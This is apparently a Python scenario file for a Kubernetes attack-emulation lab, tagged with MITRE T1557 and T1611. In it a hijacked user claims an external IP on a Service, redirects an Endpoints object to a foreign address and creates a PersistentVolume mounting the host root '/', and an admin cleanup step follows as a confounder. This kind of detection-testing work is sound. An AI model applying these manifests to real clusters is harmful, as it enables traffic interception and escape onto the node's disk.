"""External addresses, foreign endpoints and a volume on the host."""

from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    name = stage.word("edge", "mirror")
    service = {"ports": [{"port": 443}], "externalIPs": ["192.0.2.53"]}
    with stage.step("claim an external address", thief, "credential-access", ("N10",)):
        body = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": name}, "spec": service}
        stage.must(stage.create(thief, body, "shop"))
    subsets = [{"addresses": [{"ip": "192.0.2.54"}], "ports": [{"port": 443}]}]
    with stage.step("send a service elsewhere", thief, "credential-access", ("N10",)):
        ends = {"apiVersion": "v1", "kind": "Endpoints", "metadata": {"name": name}, "subsets": subsets}
        stage.must(stage.create(thief, ends, "shop"))
    spec = {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/"}}
    with stage.step("a volume on the host", thief, "privilege-escalation", ("N10",)):
        volume = {"apiVersion": "v1", "kind": "PersistentVolume", "metadata": {"name": name}, "spec": spec}
        stage.must(stage.create(thief, volume))
    with stage.step("the administrator removes them", "kubernetes-admin", kind="confounder"):
        admin = stage.admin()
        admin.delete(f"/api/v1/namespaces/shop/services/{name}")
        admin.delete(f"/api/v1/persistentvolumes/{name}")


SCENARIO = Scenario(
    "traffic-tricks",
    "External addresses, endpoints and a host volume",
    "attack",
    "take over traffic and reach a node's disk",
    ("T1557", "T1611"),
    _play,
)
